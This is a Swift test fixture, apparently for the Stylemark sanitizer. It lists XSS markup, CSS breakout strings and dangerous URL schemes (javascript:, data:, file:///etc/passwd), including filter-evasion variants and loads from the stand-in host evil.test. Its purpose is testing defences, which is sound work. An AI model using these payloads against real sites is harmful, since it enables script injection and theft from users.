import StylemarkTestSupport

/// What people write to make a page run their script, load their files or change its looks.
///
/// Each that came through would call `pwn`, open a dialog, ask `evil.test` for something, or set the
/// property `--pwned`.
enum HostilePayload {
  /// Markup that may come out of text, attributes and names.
  static let markup = [
    "<script>pwn=1</script>", "</p></div><script>pwn=1</script>", "\"><script>pwn=1</script>",
    "'><script>pwn=1</script>", "</style><script>pwn=1</script>", "</title><script>pwn=1</script>",
    "</textarea><script>pwn=1</script>", "--><script>pwn=1</script>", "]]><script>pwn=1</script>",
    "<img src=//evil.test/x onerror=pwn=1>", "\"><img src=//evil.test/x onerror=pwn=1>",
    "\" onmouseover=\"pwn=1\" x=\"", "' onfocus='pwn=1' autofocus='", "` onload=`pwn=1",
    "x onload=pwn=1 ", "<svg onload=pwn=1>", "<svg><script>pwn=1</script></svg>",
    "<svg/onload=pwn=1//", "<math><mi xlink:href=\"javascript:pwn=1\">x</mi></math>",
    "<iframe src=javascript:pwn=1></iframe>", "<iframe srcdoc='<script>top.pwn=1</script>'>",
    "<object data=//evil.test/x></object>", "<embed src=//evil.test/x>",
    "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<body onload=pwn=1>",
    "<form action=//evil.test/><input autofocus onfocus=pwn=1></form>",
    "<video src=//evil.test/x onerror=pwn=1></video>", "<audio src=//evil.test/x>",
    "<details open ontoggle=pwn=1>", "<marquee onstart=pwn=1>", "<style>*{--pwned:1}</style>",
    "<style>@import '//evil.test/x';</style>",
    "<noscript><p title=\"</noscript><svg onload=pwn=1>\">",
    "<template><script>pwn=1</script></template>", "<a href=javascript:pwn=1>x</a>",
    "<input type=image src=//evil.test/x>", "<table background=//evil.test/x>",
    "<div style=\"background:url(//evil.test/x)\">", "<xmp><script>pwn=1</script></xmp>",
    "<!--><script>pwn=1</script-->", "<![CDATA[<script>pwn=1</script>]]>",
    "<?xml-stylesheet href=x?>",
    "<scr<script>ipt>pwn=1</scr</script>ipt>", "\u{0}<scr\u{0}ipt>pwn=1</script>",
    "&lt;script&gt;pwn=1&lt;/script&gt;", "&#60;script&#62;pwn=1&#60;/script&#62;",
    "\\<script\\>pwn=1\\</script\\>", "＜script＞pwn=1＜/script＞", "\u{FEFF}<script>pwn=1</script>",
    "<script\n>pwn=1</script\n>", "<SCRIPT SRC=//evil.test/x></SCRIPT>", "<p/onclick=pwn=1>x",
    "+ADw-script+AD4-pwn=1+ADw-/script+AD4-",
  ]

  /// CSS that may come out of strings, colours and names.
  static let css = [
    "x;}*{--pwned:1}", "x\"}*{--pwned:1}", "x'}*{--pwned:1}", "}*{--pwned:1}", "x){}*{--pwned:1}",
    "x*/}*{--pwned:1}", "red;--pwned:1", "red}*{--pwned:1}", "\\\"}*{--pwned:1}",
    "x\n}*{--pwned:1}",
    "x\u{C}}*{--pwned:1}", "url(//evil.test/x)", "x;background:url(//evil.test/x)",
    "x\";background:url(//evil.test/x);x:\"", "</style><img src=//evil.test/x onerror=pwn=1>",
    "@import '//evil.test/x';", "x}@import url(//evil.test/x);", "expression(pwn=1)",
    "\\22 }*{--pwned:1}", "\\", "\\\n", "x;behavior:url(//evil.test/x)", "var(--x)}*{--pwned:1}",
    "<!--", "-->", "{", "}", "\"", "'", "/*",
  ]

  /// URLs that run a script, or bring a document of their own.
  static let urls = [
    "javascript:pwn=1", "JaVaScRiPt:pwn=1", " javascript:pwn=1", "\u{1}javascript:pwn=1",
    "\u{1F} javascript:pwn=1", "java\tscript:pwn=1", "java\nscript:pwn=1", "java\r\nscript:pwn=1",
    "javascript\t:pwn=1", "javascript\n:pwn=1", "javascript&#58;pwn=1", "javascript&colon;pwn=1",
    "&#106;avascript:pwn=1", "&#x6A avascript:pwn=1", "java\u{0}script:pwn=1",
    "javascript://evil.test/%0Apwn=1", "javascript:/*--></title></style>pwn=1", "vbscript:pwn=1",
    "data:text/html,<script>pwn=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wd249MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn=1'/>",
    "DATA:text/html,x", "blob:https://evil.test/x", "file:///etc/passwd", "filesystem:x",
    "view-source:x", "about:blank", "feed:javascript:pwn=1", "jar:x", "\u{A0}javascript:pwn=1",
    "\u{3000}javascript:pwn=1", "\u{FEFF}javascript:pwn=1", "\\javascript:pwn=1",
    "jav&#x09;ascript:pwn=1",
    "javascript:alert(1)//http://x", "ws://evil.test/", "intent:x", "javascript\u{AD}:pwn=1",
  ]

  /// All of them.
  static let all = markup + css + urls
}
